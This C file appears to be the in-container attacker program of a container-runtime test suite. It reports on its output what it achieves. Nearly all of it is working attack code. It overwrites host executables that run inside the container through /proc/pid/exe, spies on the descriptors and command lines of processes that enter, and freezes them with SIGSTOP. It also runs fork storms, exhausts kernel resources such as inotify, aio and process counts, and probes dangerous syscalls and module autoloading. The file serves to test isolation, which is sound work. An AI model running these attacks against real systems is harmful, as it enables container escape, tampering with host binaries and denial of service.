/*
 * The attacker in the container. It is static, and says on standard output what it got.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/filter.h>
#include <linux/if_bridge.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/sockios.h>
#include <mqueue.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { EXCHANGE = 2, XFRM = 6, NETFILTER = 12, SCTP = 132, UDPLITE = 136 };

/* swap A B: for ever. */
static int swap(char **arg)
{
	puts("swapping");
	while (syscall(SYS_renameat2, AT_FDCWD, arg[0], AT_FDCWD, arg[1], EXCHANGE) == 0)
		;
	perror("renameat2");
	return 1;
}

typedef void per_process(pid_t pid);

static _Noreturn void each_process(per_process *f)
{
	DIR *d = opendir("/proc");
	struct dirent *e;

	for (; d; rewinddir(d))
		while ((e = readdir(d)))
			if (atoi(e->d_name) > 0 && atoi(e->d_name) != getpid())
				f(atoi(e->d_name));
	_exit(1);
}

static struct stat known[2];

static bool is_known(const struct stat *st)
{
	for (size_t i = 0; i < sizeof(known) / sizeof(known[0]); i++)
		if (st->st_dev == known[i].st_dev && st->st_ino == known[i].st_ino)
			return true;
	return false;
}

/* A running program cannot be written to: it is held until it can. */
static _Noreturn void overwrite_when_free(int fd)
{
	char path[64];
	int to;

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	while ((to = open(path, O_WRONLY | O_CLOEXEC)) < 0 && errno == ETXTBSY)
		usleep(1000);
	if (to < 0)
		printf("caught: %s\n", strerror(errno));
	else
		puts(write(to, "#!/owned\n", 9) == 9 ? "overwritten" : strerror(errno));
	fflush(stdout);
	_exit(0);
}

/* A program that is not of our root. */
static void overwrite_one(pid_t pid)
{
	static bool seen[1 << 16];
	char path[64];
	struct stat st;
	int fd;

	if (seen[pid & 0xffff])
		return;
	snprintf(path, sizeof(path), "/proc/%d/exe", (int)pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && fstat(fd, &st) == 0 && !is_known(&st)) {
		seen[pid & 0xffff] = true;
		puts("held");
		if (fork() == 0)
			overwrite_when_free(fd);
	}
	if (fd >= 0)
		close(fd);
}

/* overwrite: the programs of the host that run in here. */
static int overwrite(char **arg)
{
	(void)arg;
	if (stat("/proc/self/exe", &known[0]) < 0 || stat("/bin/busybox", &known[1]) < 0)
		return 1;
	each_process(overwrite_one);
}

/* A descriptor below 3 is the same as ours, and one above was never for us. */
static void spy_one(pid_t pid)
{
	char path[64], target[256];
	ssize_t n;

	for (int fd = 3; fd < 20; fd++) {
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, fd);
		n = readlink(path, target, sizeof(target) - 1);
		if (n < 0)
			continue;
		target[n] = '\0';
		/* Our own kind has /proc open, as we do. */
		if (strcmp(target, "/proc") == 0)
			continue;
		printf("seen: %s -> %s\n", path, target);
		fflush(stdout);
	}
}

/* spy: descriptors of whoever comes in. */
static int spy(char **arg)
{
	(void)arg;
	each_process(spy_one);
}

static ssize_t read_of(pid_t pid, const char *name, char *buf, size_t size)
{
	char path[64];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", (int)pid, name);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	n = fd < 0 ? -1 : read(fd, buf, size);
	if (fd >= 0)
		close(fd);
	return n;
}

static const char *word;

/* What everybody may read of a process: one that is in our namespaces shows what we see ourselves. */
static void glimpse_one(pid_t pid)
{
	static const char *const files[] = {"mountinfo", "net/unix", "net/route"};
	static char ours[1 << 16], theirs[1 << 16];
	ssize_t n = read_of(pid, "cmdline", theirs, sizeof(theirs)), m;

	if (n > 0 && memmem(theirs, (size_t)n, word, strlen(word)))
		printf("seen: cmdline of %d\n", (int)pid);
	for (size_t i = 0; i < sizeof(files) / sizeof(files[0]); i++) {
		n = read_of(pid, files[i], theirs, sizeof(theirs));
		m = read_of(getpid(), files[i], ours, sizeof(ours));
		if (n > 0 && (n != m || memcmp(theirs, ours, (size_t)n) != 0))
			printf("seen: %s of %d\n", files[i], (int)pid);
	}
	fflush(stdout);
}

/* glimpse WORD: of whoever comes in, what is not of the container, and the word on the command line. */
static int glimpse(char **arg)
{
	word = arg[0];
	each_process(glimpse_one);
}

static void stop_one(pid_t pid)
{
	if (pid > 1 && kill(pid, SIGSTOP) == 0)
		kill(pid, SIGSTOP);
}

/* freeze: stops whoever comes in. */
static int freeze(char **arg)
{
	(void)arg;
	each_process(stop_one);
}

/* storm: some tens of processes that fork, stop themselves, and wait for children by vfork. */
static int storm(char **arg)
{
	(void)arg;
	signal(SIGTERM, SIG_IGN);
	signal(SIGINT, SIG_IGN);
	for (int i = 0; i < 8; i++)
		if (fork() == 0)
			for (;;) {
				pid_t pid = fork();

				if (pid == 0)
					_exit(0);
				waitpid(pid, NULL, 0);
			}
	for (int i = 0; i < 8; i++)
		if (fork() == 0)
			for (;;)
				raise(SIGSTOP);
	if (fork() == 0 && vfork() == 0)
		for (;;)
			pause();
	puts("storming");
	fflush(stdout);
	for (;;)
		if (waitpid(-1, NULL, 0) < 0)
			pause();
}

/* The kernel's doors. A descriptor, or an error that comes from behind the door: it is open. */
static void tell(const char *name, long r)
{
	bool shut = r < 0 && (errno == EPERM || errno == ENOSYS || errno == EACCES ||
				     errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT);

	printf("%s %s %s\n", shut ? "shut" : "open", name, r < 0 ? strerror(errno) : "");
}

/* The limit at which the kernel feeds no handler of the host's: lowered, or still there. */
static long lower_core_limit(void)
{
	struct rlimit limit = {0, 0};

	setrlimit(RLIMIT_CORE, &limit);
	getrlimit(RLIMIT_CORE, &limit);
	errno = EPERM;
	return limit.rlim_cur == 0 ? 0 : -1;
}

static long attach_filter(void)
{
	struct sock_filter all = {BPF_RET | BPF_K, 0, 0, 0xffff};
	struct sock_fprog program = {1, &all};

	return setsockopt(socket(AF_UNIX, SOCK_DGRAM, 0), SOL_SOCKET, SO_ATTACH_FILTER, &program,
		sizeof(program));
}

static int doors(char **arg)
{
	struct perf_event_attr perf = {.type = PERF_TYPE_SOFTWARE,
		.size = sizeof(perf),
		.config = PERF_COUNT_SW_CPU_CLOCK};
	struct io_uring_params ring = {0};
	union bpf_attr map = {.map_type = BPF_MAP_TYPE_ARRAY,
		.key_size = 4,
		.value_size = 4,
		.max_entries = 1};

	unsigned long aio = 0;
	int line = 0;

	(void)arg;
	tell("SO_ATTACH_FILTER", attach_filter());
	tell("TIOCSETD", ioctl(open("/dev/ptmx", O_RDWR | O_NOCTTY), TIOCSETD, &line));
	tell("io_setup", syscall(SYS_io_setup, 1, &aio));
	tell("core-limit", lower_core_limit());
	tell("AF_ALG", socket(AF_ALG, SOCK_SEQPACKET, 0));
	tell("AF_VSOCK", socket(AF_VSOCK, SOCK_STREAM, 0));
	tell("AF_PACKET", socket(AF_PACKET, SOCK_RAW, 0));
	tell("xfrm", socket(AF_NETLINK, SOCK_RAW, XFRM));
	tell("nfnetlink", socket(AF_NETLINK, SOCK_RAW, NETFILTER));
	tell("io_uring", syscall(SYS_io_uring_setup, 4, &ring));
	tell("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &map, sizeof(map)));
	tell("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC));
	tell("perf_event_open", syscall(SYS_perf_event_open, &perf, 0, -1, -1, 0));
	tell("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 1));
	tell("add_key", syscall(SYS_add_key, "user", "x", "y", 1, KEY_SPEC_PROCESS_KEYRING));
	tell("fsopen", syscall(SYS_fsopen, "tmpfs", 0));
	tell("open_by_handle_at", syscall(SYS_open_by_handle_at, -1, NULL, 0));
	tell("unshare-user", syscall(SYS_unshare, 0x10000000));
	return 0;
}

/* What the kernel counts for each user: one more of it, or -1. DIR has room for files. */
static int one_inotify(const char *dir)
{
	(void)dir;
	return inotify_init1(0);
}

/* One instance watches a file once: many of them, and a new file when all do. */
static int one_watch(const char *dir)
{
	enum { INSTANCES = 100 };
	static int instances[INSTANCES], made, next, files;
	static char path[4096];

	if (next == 0) {
		snprintf(path, sizeof(path), "%s/watched.%d.%d", dir, getpid(), files++);
		close(open(path, O_WRONLY | O_CREAT, 0600));
	}
	if (made < INSTANCES && (instances[made] = inotify_init1(0)) >= 0)
		made++;
	next = next + 1 < made ? next + 1 : 0;
	return made ? inotify_add_watch(instances[next], path, IN_MODIFY) : -1;
}

static int one_signal(const char *dir)
{
	struct sigevent e = {.sigev_notify = SIGEV_SIGNAL, .sigev_signo = SIGUSR1};
	timer_t t;

	(void)dir;
	return timer_create(CLOCK_MONOTONIC, &e, &t);
}

static int one_queue(const char *dir)
{
	static int n;
	char name[64];
	mqd_t q;

	(void)dir;
	snprintf(name, sizeof(name), "/ctr-attack-%d-%d", getpid(), n++);
	q = mq_open(name, O_RDWR | O_CREAT | O_EXCL, 0600, NULL);
	mq_unlink(name);
	return q;
}

static int one_fanotify(const char *dir)
{
	(void)dir;
	return fanotify_init(FAN_CLASS_NOTIF | 0x200 /* FAN_REPORT_FID */, O_RDONLY);
}

static int one_terminal(const char *dir)
{
	(void)dir;
	return open("/dev/pts/ptmx", O_RDWR | O_NOCTTY);
}

static _Noreturn void wait_with_parent(void)
{
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;)
		pause();
}

static int one_process(const char *dir)
{
	pid_t pid = fork();

	(void)dir;
	if (pid == 0)
		wait_with_parent();
	return pid;
}

/* Of another user each time. */
static int one_user(const char *dir)
{
	static int uid;
	pid_t pid = fork();

	(void)dir;
	uid++;
	if (pid == 0 && setresuid((uid_t)uid, (uid_t)uid, (uid_t)uid) < 0)
		_exit(1);
	if (pid == 0)
		wait_with_parent();
	return pid;
}

/* modules: asks the kernel for what it has to load first. */
static int modules(char **arg)
{
	int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY), sock = socket(AF_UNIX, SOCK_STREAM, 0);
	static const unsigned long requests[] = {SIOCGIFBR, SIOCBRADDBR, SIOCBRADDIF, SIOCBRDELIF,
		SIOCGIFVLAN};
	/* The kernel takes 32 bits of a protocol. */
	static const unsigned long protocols[] = {0, 1UL << 32, UDPLITE, SCTP};
	char nothing[64] = {0};

	(void)arg;
	for (int line = 1; line < 30; line++)
		ioctl(terminal, TIOCSETD, &line);
	for (size_t i = 0; i < sizeof(requests) / sizeof(requests[0]); i++)
		ioctl(sock, requests[i], nothing);
	for (int type = SOCK_STREAM; type <= SOCK_SEQPACKET; type++)
		for (size_t i = 0; i < sizeof(protocols) / sizeof(protocols[0]); i++) {
			syscall(SYS_socket, AF_INET, type, protocols[i]);
			syscall(SYS_socket, AF_INET6, type, protocols[i]);
		}
	return 0;
}

/* take-aio: all events of the host that are left, and keeps them. */
static int take_aio(char **arg)
{
	unsigned long context;

	(void)arg;
	for (unsigned events = 60000; events; events /= 2)
		while (context = 0, syscall(SYS_io_setup, events, &context) == 0)
			;
	puts("taken");
	pause();
	return 0;
}

/* crash: with the limit of core dumps lowered before. */
static int crash(char **arg)
{
	(void)arg;
	/* By a child: process 1 does not die of its own signals. */
	if (fork() == 0) {
		lower_core_limit();
		_exit(raise(SIGSEGV));
	}
	wait(NULL);
	return 0;
}

static const struct {
	const char *name;
	int (*one)(const char *dir);
} counted[] = {
	{"inotify", one_inotify},
	{"watches", one_watch},
	{"signals", one_signal},
	{"queues", one_queue},
	{"fanotify", one_fanotify},
	{"terminals", one_terminal},
	{"processes", one_process},
	{"users", one_user},
};

/* How many of WHAT it gets, at most MAX. */
static long gets(const char *what, const char *dir, long max)
{
	long n = 0;

	for (size_t i = 0; i < sizeof(counted) / sizeof(counted[0]); i++)
		if (strcmp(what, counted[i].name) == 0)
			while (n < max && counted[i].one(dir) >= 0)
				n++;
	return n;
}

/* take WHAT DIR MAX: and keeps it, for ever. */
static int take(char **arg)
{
	long n = gets(arg[0], arg[1], atol(arg[2]));

	printf("took %ld %s\n", n, n < atol(arg[2]) ? strerror(errno) : "");
	while (pause() < 0)
		;
	return 0;
}

/* try WHAT DIR N: whether it gets so many. */
static int try(char **arg)
{
	return gets(arg[0], arg[1], atol(arg[2])) == atol(arg[2]) ? 0 : 1;
}

static const struct {
	const char *name;
	int (*run)(char **arg);
	int args;
} attacks[] = {
	{"swap", swap, 2},
	{"overwrite", overwrite, 0},
	{"spy", spy, 0},
	{"glimpse", glimpse, 1},
	{"freeze", freeze, 0},
	{"storm", storm, 0},
	{"doors", doors, 0},
	{"modules", modules, 0},
	{"take-aio", take_aio, 0},
	{"crash", crash, 0},
	{"take", take, 3},
	{"try", try, 3},
};

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(attacks[0]); i++)
		if (strcmp(argv[1], attacks[i].name) == 0 && argc - 2 >= attacks[i].args)
			return attacks[i].run(argv + 2);
	fprintf(stderr, "inside: no such attack\n");
	return 2;
}
